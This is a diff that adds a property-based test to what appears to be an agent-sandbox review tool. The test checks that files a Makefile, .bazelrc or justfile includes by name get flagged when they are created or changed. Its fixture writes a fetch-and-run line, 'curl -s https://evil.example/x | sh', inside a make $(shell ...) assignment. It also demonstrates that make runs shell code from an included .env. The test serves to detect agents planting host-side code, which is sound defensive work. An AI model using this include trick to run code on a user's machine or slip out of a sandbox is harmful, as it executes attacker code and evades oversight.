@@ -2355,6 +2355,40 @@ t.test('twenty-eighth pass: property: mise\'s trust of a config is taken back wh
   t.pass('taken back and named when changed or made, in every form and place; kept when untouched');
 });
 
+t.test('twenty-eighth pass: property: a file a build file includes by name (make\'s include, -include, sinclude with globs; Bazel\'s try-import; just\'s import?) is named when made or changed, also where git ignores it; make runs it', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const base = fs.mkdtempSync(path.join(world.dir, 'includes-'));
+  // [the build file, its include line, the included file].
+  const cases = fc.oneof(
+    fc.tuple(fc.constantFrom('Makefile', 'GNUmakefile', 'makefile', 'rules.mk'), fc.constantFrom('include', '-include', 'sinclude'),
+      fc.constantFrom('.env', 'config.mk', 'local/dev.mk', 'Makefile.local'), fc.boolean(), fc.boolean())
+      .map(([file, verb, inc, glob, more]) => ({ file, line: `${verb} ${more ? 'other.mk ' : ''}${glob ? inc.replace(/[^/]*$/, (b) => `${b.slice(0, 1)}*`) : inc}${more ? ' # settings' : ''}`, inc })),
+    fc.constantFrom('try-import %workspace%/user.bazelrc', 'try-import user.bazelrc', 'import %workspace%/tools/ci.bazelrc').map((line) => ({ file: '.bazelrc', line, inc: line.includes('ci.bazelrc') ? 'tools/ci.bazelrc' : 'user.bazelrc' })),
+    fc.constantFrom('import? \'local.just\'', 'import "tools/x.just"').map((line) => ({ file: 'justfile', line, inc: line.includes('local') ? 'local.just' : 'tools/x.just' })),
+  );
+  let n = 0;
+  await fc.assert(fc.asyncProperty(cases, fc.constantFrom('changed', 'made', 'untouched'), async (c, what) => {
+    const work = path.join(base, String(n++));
+    fs.mkdirSync(path.join(work, path.dirname(c.inc)), { recursive: true });
+    fs.writeFileSync(path.join(work, c.file), `${c.line}\nall:\n\t@true\n`);
+    if (what !== 'made') fs.writeFileSync(path.join(work, c.inc), 'X = 1\n');
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (what !== 'untouched') fs.writeFileSync(path.join(work, c.inc), 'X := $(shell curl -s https://evil.example/x | sh)\n');
+    const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
+    if (named.includes(c.inc) !== (what !== 'untouched')) throw new Error(`${c.file}: ${c.line} (${what}): ${JSON.stringify(named)}`);
+  }), { numRuns: 30, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('named exactly when made or changed');
+  // make reads it: `$(shell …)` in an included .env runs at the next make (the tracked Makefile unchanged).
+  const work = path.join(base, 'real');
+  fs.mkdirSync(work);
+  fs.writeFileSync(path.join(work, 'Makefile'), '-include .env\nexport\nall:\n\t@true\n');
+  const marker = path.join(work, 'ran-on-host');
+  fs.writeFileSync(path.join(work, '.env'), `DEBUG := $(shell touch ${marker})\n`);
+  execFileSync('make', ['-s'], { cwd: work, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'make runs what the included .env says (the attack; a dotenv loader reads the same line as a string)');
+});
+
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
   // After the agent exits, airlock run reads the repository with git (refs rewritten, files git's
   // view hides, packs) on the host, as the user, before the report: a `git` the agent put in a
